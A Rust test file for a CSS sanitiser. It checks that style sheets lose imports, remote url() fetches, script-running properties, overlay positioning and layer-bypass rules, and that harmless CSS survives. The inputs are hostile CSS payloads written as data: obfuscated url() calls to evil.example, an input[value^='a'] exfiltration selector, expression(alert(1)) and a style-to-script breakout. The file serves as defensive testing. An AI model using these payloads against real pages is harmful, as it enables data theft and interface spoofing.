//! What is left of style sheets.

use super::*;

#[track_caller]
fn check(css: &str, expected: &str) {
    let cleaned = clean(css).css;
    let flat = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert_eq!(flat(&cleaned), expected, "{css}");
    assert_eq!(clean(&cleaned).css, cleaned, "cleaned twice: {css}");
}

#[test]
fn what_is_harmless_stays() {
    check(":root { --accent: #a00; --on-accent: white }", ":root { --accent: #a00; --on-accent: white; }");
    check(
        "a:hover > b[data-x=\"1\"]{color:rgb(1 2 3 / 50%)!important}",
        "a:hover > b[data-x=\"1\"] { color: rgb(1 2 3 / 50%)!important; }",
    );
    check(
        "@media (width < 40rem) { a { margin: calc(1px + 2px) } }",
        "@media (width < 40rem) { a { margin: calc(1px + 2px); } }",
    );
    check(".a::before { content: \"\\2191\" } ", ".a::before { content: \"↑\"; }");
    check("a { position: RELATIVE }", "a { position: RELATIVE; }");
    check("a { color: red; } </style><script>alert(1)</script> b { color: blue }", "a { color: red; }");
}

#[test]
fn what_fetches_is_left_out() {
    for css in [
        "@import 'https://evil.example/x.css';",
        "@import url(https://evil.example/x.css);",
        "@font-face { font-family: x; src: url(//evil.example/x) }",
        "@namespace svg url(http://www.w3.org/2000/svg);",
        "@charset 'utf-8'; @document url(https://x) { a { color: red } }",
        "a { background: url(https://evil.example) }",
        "a { background: URL('https://evil.example') }",
        "a { background: u\\72l(https://evil.example) }",
        "a { background: \\75\\72\\6c(\"//evil.example\") }",
        "input[value^='a'] { background: url(//evil.example/a) }",
        "a { --x: url(//evil.example); }",
        "a { background: image-set('//evil.example' 1x) }",
        "a { background: -webkit-image-set('//evil.example' 1x) }",
        "a { background: linear-gradient(red, url(//evil.example)) }",
        "a { background: src('//evil.example') }",
        "a { list-style: url( }",
        "a { background: url(bad\"quote) }",
        "a { cursor: cross-fade(image('//evil.example'), red) }",
        "@media screen { @import url(//evil.example); a { background: url(x) } }",
        "a { & b { background: url(//evil.example) } }",
    ] {
        check(css, "");
    }
}

#[test]
fn what_runs_or_covers_is_left_out() {
    for css in [
        "a { width: expression(alert(1)) }",
        "a { width: exp\\72 ession(alert(1)) }",
        "a { behavior: 'x.htc' }",
        "a { BEHAVIOR: x }",
        "a { -moz-binding: x }",
        "a { position: fixed }",
        "a { position: FIXED !important }",
        "a { position: f\\69xed }",
        "a { position: sticky }",
        "a { position: absolute; inset: url(x) }",
        "a { position: var(--p) }",
        "<!-- a { color: url(x) } -->",
        "a { z-index: 9 }",
        "a { Z-INDEX: -1 !important }",
        "a { z\\2dindex: 9 }",
        "a { position: relative/**/x }",
        "a { top: -40px }",
        "a { inset-block-start: 0 }",
        "a { transform: translateY(-40px) }",
        "a { -webkit-transform: scale(9) }",
        "a { translate: 0 -40px }",
        "a { rotate: 180deg; scale: 9 }",
        "a { perspective-origin: top }",
        "a { offset-path: ray(45deg) }",
        "a { grid-area: top }",
        "a { grid-row: 1 / 3; grid-column-start: 1 }",
        "a { margin: -40px }",
        "a { margin-top: calc(0px - 40px) }",
        "a { margin-inline: calc(40px * -1) }",
        "a { margin: calc(40px * cos(180deg)) }",
        "a { margin: var(--none, -40px) }",
        "a { -webkit-margin-before: -4% }",
        ":root { --space: -40px }",
        ":root { --space: calc(0px - 40px) }",
    ] {
        check(css, "");
    }
    check(
        "a { margin: 0 auto var(--space); grid-template-areas: 'a b'; letter-spacing: -0.01em }",
        "a { margin: 0 auto var(--space); grid-template-areas: \"a b\"; letter-spacing: -0.01em; }",
    );
    check(
        "a { grid-row-gap: 1px; text-transform: none; transform-style: flat }",
        "a { grid-row-gap: 1px; text-transform: none; }",
    );
    check(":root { --font: Noto-Sans, x-y }", ":root { --font: Noto-Sans, x-y; }");
}

/// What `assets/acting.css` settles for the banner of acting cannot be undone by what is left of any of these.
#[test]
fn what_gets_around_a_layer_is_left_out() {
    for css in [
        "@layer banner { .acting { display: none !important } }",
        "@layer a, banner;",
        "@layer { .acting { display: none !important } }",
        "@media all { @layer banner { .acting { opacity: 0 !important } } }",
        "@scope (.acting) { p { color: transparent !important } }",
        "@container (width > 0) { .acting { display: none !important } }",
        "@property --x { syntax: '*'; inherits: true }",
        "@keyframes gone { to { opacity: 0 } }",
        "@view-transition { navigation: auto }",
        "@starting-style { .acting { opacity: 0 } }",
        "@position-try --a { inset: 0 }",
        ".acting p::first-line { color: transparent }",
        ".acting p:first-letter { float: left }",
        ".acting p:FIRST-LINE { font-size: 0 }",
        ".acting p:\\66irst-line { font-size: 0 }",
        "p:/**/:first-line { font-size: 0 }",
        "p:is(a, :first-line) { font-size: 0 }",
        "select::picker(select) { appearance: base-select }",
        "main::scroll-button(down) { content: 'x' }",
        "main::scroll-marker-group { content: 'x' }",
        "::view-transition { background: red }",
        "::backdrop { background: red }",
    ] {
        check(css, "");
    }
    check("a:first-child::BEFORE { gap: 0 }", "a:first-child::BEFORE { gap: 0; }");
    check("li::marker, a:after { gap: 0 }", "li::marker, a:after { gap: 0; }");
}

#[test]
fn a_sheet_may_come_in_its_element() {
    check("<head><style> a { color: red } b { gap: 0 } </style></head>", "a { color: red; } b { gap: 0; }");
    check("\n<HEAD>\n<STYLE type='text/css'>a { color: red }", "a { color: red; }");
    check("<style></style><script>alert(1)</script> a { color: red }", "");
    check("<style a { color: red }", "");
    let removed = clean("<head>\n<style>\na { gap: 0 }\n@import 'x';\n</style>").removed;
    assert_eq!(removed.iter().map(|removed| removed.line).collect::<Vec<_>>(), [4]);
}

#[test]
fn one_bad_declaration_does_not_take_the_others_away() {
    check(
        "a { color: red; background: url(x); margin: 0 } b { gap: 0 }",
        "a { color: red; margin: 0; } b { gap: 0; }",
    );
    check("a { color: re/**/d; }", "a { color: re/**/d; }");
}

#[test]
fn size_and_depth_are_bounded() {
    let deep = format!("a {{ width: {} }}", "(".repeat(60_000));
    check(&deep, "");
    check(&"@media x {".repeat(20_000), "");
    let long = "a { color: red }\n".repeat(100_000);
    assert!(clean(&long).css.len() <= OUTPUT_BYTES_MAX);
    let accents = "é".repeat(INPUT_BYTES_MAX);
    assert_eq!(clean(&accents).css, "");
}

#[test]
fn what_was_left_out_is_told() {
    let css = "@import 'x.css';\na {\n  color: red;\n  background: url(//evil.example/x);\n  position: fixed\n}\n\
               @media print { b { behavior: x } }\n@keyframes spin { to { rotate: 1turn } }\n} c { color: blue }\n\
               d { width: expression(alert(1)); & e { color: red } }";
    let Cleaned { css, removed } = clean(css);
    assert_eq!(css, "a { color: red; }\n");
    let told: Vec<(u32, &str, Why)> =
        removed.iter().map(|removed| (removed.line, removed.text.as_str(), removed.why)).collect();
    assert_eq!(
        told,
        [
            (1, "@import 'x.css'", Why::Fetches),
            (4, "background: url(//evil.example/x);", Why::Fetches),
            (5, "position: fixed", Why::Covers),
            (7, "behavior: x", Why::Runs),
            (8, "@keyframes spin", Why::AtRule),
            (9, "} c {", Why::Malformed),
            (10, "width: expression(alert(1));", Why::Runs),
            (10, "& e { color: red }", Why::Malformed),
        ]
    );
}

#[test]
fn the_example_stays_whole() {
    let Cleaned { css, removed } = clean(EXAMPLE);
    assert_eq!(removed, []);
    assert!(css.contains("--accent:"));
}
